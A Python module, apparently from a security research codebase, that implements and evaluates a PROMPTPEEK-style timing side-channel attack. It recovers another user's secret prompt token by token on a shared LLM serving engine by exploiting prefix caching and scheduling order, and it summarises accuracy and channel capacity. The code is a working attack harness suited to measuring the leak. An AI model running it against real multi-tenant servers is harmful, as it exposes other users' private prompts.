"""PROMPTPEEK-style prompt recovery (Wu et al., NDSS 2025) against a ``serving.ServingEngine`` over HTTP.

Threat model: the attacker shares the server with a victim, knows the victim's prompt template and,
for every secret position, a short list of candidate tokens. It recovers the secret token by token:

1. send a "blocker" request (a novel prompt generating many tokens) so the server is busy;
2. while it runs, fire one request per candidate, ``template + recovered + [candidate, filler]``, all
   at once in a random order;
3. with a shared prefix cache and a longest-prefix-first scheduler, the request continuing the
   victim's cached prompt has the longest cached prefix, so it is served (and answered) first.
   The guess is the candidate answered first (order); a second guess uses the smallest latency (TTFT).

Each candidate request asks for ``candidate_new_tokens`` tokens so that consecutive answers are several
decode steps apart, well above the client's scheduling jitter. The trailing filler token lets a full
match on ``recovered + candidate`` count (the server reuses at most ``len(prompt) - 1`` cached tokens).
The filler of each round is chosen outside the next round's candidates, so the attacker's own cached
requests never tie with the victim's prompt later.
The attacker continues from its own guesses (errors propagate, as they would for a real attacker).
"""

from __future__ import annotations

import http.client
import json
import math
import random
import threading
import time
from collections.abc import Sequence
from dataclasses import dataclass, field

from ttmem.security import stats


@dataclass
class AttackResult:
    """Outcome of one attack on one secret."""

    truth: list[int]
    guesses_order: list[int] = field(default_factory=list)
    guesses_ttft: list[int] = field(default_factory=list)
    requests: int = 0
    latencies_ns: list[tuple[int, bool]] = field(default_factory=list)  # (latency, candidate was correct)
    ranks: list[tuple[int, bool]] = field(default_factory=list)  # (place in the round's answer order, correct)
    # per round: the blocker was answered before every candidate request had been sent, so the server may
    # have served early candidates without seeing the others (the round's order then says little)
    blocker_early: list[bool] = field(default_factory=list)

    @property
    def correct_order(self) -> int:
        return sum(g == t for g, t in zip(self.guesses_order, self.truth, strict=True))

    @property
    def correct_ttft(self) -> int:
        return sum(g == t for g, t in zip(self.guesses_ttft, self.truth, strict=True))


def _post_timed(host: str, port: int, payload: dict, timeout: float) -> tuple[int, int, int, int]:
    """POST /generate on a fresh connection: (status, sent time ns, answered time ns, latency ns)."""
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        start = time.perf_counter_ns()
        body = json.dumps(payload).encode()
        conn.request("POST", "/generate", body=body, headers={"Content-Type": "application/json"})
        sent = time.perf_counter_ns()
        resp = conn.getresponse()
        resp.read()
        done = time.perf_counter_ns()
    finally:
        conn.close()
    return resp.status, sent, done, done - start


def _fire(host: str, port: int, payloads: list[dict], timeout: float) -> list[tuple[int, int, int, int]]:
    """Send payloads concurrently; return (status, sent time ns, finish time ns, latency ns) per payload."""
    results: list[tuple[int, int, int, int]] = [(0, 0, 0, 0)] * len(payloads)
    barrier = threading.Barrier(len(payloads))

    def one(i: int) -> None:
        barrier.wait(timeout)
        results[i] = _post_timed(host, port, payloads[i], timeout)

    threads = [threading.Thread(target=one, args=(i,), daemon=True) for i in range(len(payloads))]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout)
    return results


def promptpeek(
    host: str,
    port: int,
    template: Sequence[int],
    candidates: Sequence[Sequence[int]],
    truth: Sequence[int],
    vocab_size: int,
    blocker_tokens: int = 48,
    blocker_new_tokens: int = 128,
    candidate_new_tokens: int = 16,
    settle_s: float = 0.02,
    timeout_s: float = 30.0,
    seed: int = 0,
) -> AttackResult:
    """Recover ``len(candidates)`` secret tokens following ``template``; ``truth`` is only used for scoring.

    The blocker must outlast the firing of all candidates (``AttackResult.blocker_early`` flags the rounds
    where it did not, which happens when the server is fast relative to the client) and consecutive candidate
    answers must be further apart than the client's jitter: raise ``blocker_new_tokens`` / ``settle_s`` /
    ``candidate_new_tokens`` accordingly (the server's ``max_new_tokens`` must allow them). Rounds are not
    repeated for a vote: the attacker's own requests are cached after the first round and would tie with the
    victim's prompt.
    """
    if len(candidates) != len(truth) or not candidates:
        raise ValueError("candidates must have one non-empty list per secret token (same length as truth)")
    if any(len(c) < 2 for c in candidates):
        raise ValueError("each candidate list needs at least two tokens")
    rng = random.Random(seed)
    result = AttackResult(list(truth))
    recovered = list(template)
    for pos, cands in enumerate(candidates):
        following = set(candidates[pos + 1]) if pos + 1 < len(candidates) else set()
        fillers = [t for t in range(vocab_size) if t not in following and t not in cands]
        if not fillers:
            raise ValueError("vocabulary too small to pick a filler outside the candidate lists")
        filler = rng.choice(fillers)
        blocker = {
            "user": "attacker-blocker",
            "prompt": [rng.randrange(vocab_size) for _ in range(blocker_tokens)],
            "max_new_tokens": blocker_new_tokens,
        }
        blocker_done: list[int] = []

        def run_blocker(payload: dict = blocker, done: list[int] = blocker_done) -> None:
            done.append(_post_timed(host, port, payload, timeout_s)[2])

        blocker_thread = threading.Thread(target=run_blocker, daemon=True)
        blocker_thread.start()
        time.sleep(settle_s)
        order = list(cands)
        rng.shuffle(order)
        payloads = [
            {"user": "attacker", "prompt": recovered + [c, filler], "max_new_tokens": candidate_new_tokens}
            for c in order
        ]
        outcomes = _fire(host, port, payloads, timeout_s)
        blocker_thread.join(timeout_s)
        result.requests += 1 + len(order)
        if any(o[0] != 200 for o in outcomes) or not blocker_done:
            raise RuntimeError(f"server refused attack requests: {[o[0] for o in outcomes]}")
        first = min(range(len(order)), key=lambda i: outcomes[i][2])
        fastest = min(range(len(order)), key=lambda i: outcomes[i][3])
        result.guesses_order.append(order[first])
        result.guesses_ttft.append(order[fastest])
        result.latencies_ns += [(outcomes[i][3], order[i] == truth[pos]) for i in range(len(order))]
        answered = sorted(range(len(order)), key=lambda i: outcomes[i][2])
        result.ranks += [(place, order[i] == truth[pos]) for place, i in enumerate(answered)]
        result.blocker_early.append(blocker_done[0] < max(o[1] for o in outcomes))
        recovered.append(order[first])
    return result


@dataclass(frozen=True)
class AttackSummary:
    """Token recovery accuracy with 95% Wilson intervals, chance level, cost and timing-channel capacity."""

    tokens: int
    accuracy_order: float
    ci_order: tuple[float, float]
    accuracy_ttft: float
    ci_ttft: tuple[float, float]
    chance: float
    requests_per_token: float
    secrets_fully_recovered: float
    capacity_bits_per_request: float
    capacity_null_bits: float
    blocker_early_fraction: float  # rounds whose blocker was answered before all candidates were sent
    order_capacity_bits_per_request: float  # channel (candidate correct?) -> place in the answer order
    order_capacity_null_bits: float


def summarize_attacks(results: Sequence[AttackResult], candidates_per_position: float) -> AttackSummary:
    """Pool several attacks; capacity is that of the channel (candidate correct?) -> request latency."""
    if not results:
        raise ValueError("results must be non-empty")
    tokens = sum(len(r.truth) for r in results)
    k_order, k_ttft = sum(r.correct_order for r in results), sum(r.correct_ttft for r in results)
    lat = [x for r in results for x in r.latencies_ns]
    samples = {
        "correct": [t for t, ok in lat if ok],
        "wrong": [t for t, ok in lat if not ok],
    }
    cap = stats.timing_capacity(samples, permutations=50)
    ranks = [x for r in results for x in r.ranks]
    by_truth = {"correct": [p for p, ok in ranks if ok], "wrong": [p for p, ok in ranks if not ok]}
    order_cap = stats.Capacity(math.nan, math.nan, 0)  # results without recorded answer places
    if min(len(v) for v in by_truth.values()) >= 2:
        per_round = max(2, round(len(ranks) / max(1, sum(len(r.guesses_order) for r in results))))
        # as many bins as places in a round: the places are uniform over all requests, so each gets its own bin
        order_cap = stats.timing_capacity(by_truth, bins=per_round, permutations=50)
    return AttackSummary(
        tokens,
        k_order / tokens,
        stats.wilson_interval(k_order, tokens),
        k_ttft / tokens,
        stats.wilson_interval(k_ttft, tokens),
        1.0 / candidates_per_position,
        sum(r.requests for r in results) / tokens,
        sum(r.correct_order == len(r.truth) for r in results) / len(results),
        cap.bits_per_request,
        cap.null_bits,
        sum(sum(r.blocker_early) for r in results) / max(1, sum(len(r.blocker_early) for r in results)),
        order_cap.bits_per_request,
        order_cap.null_bits,
    )
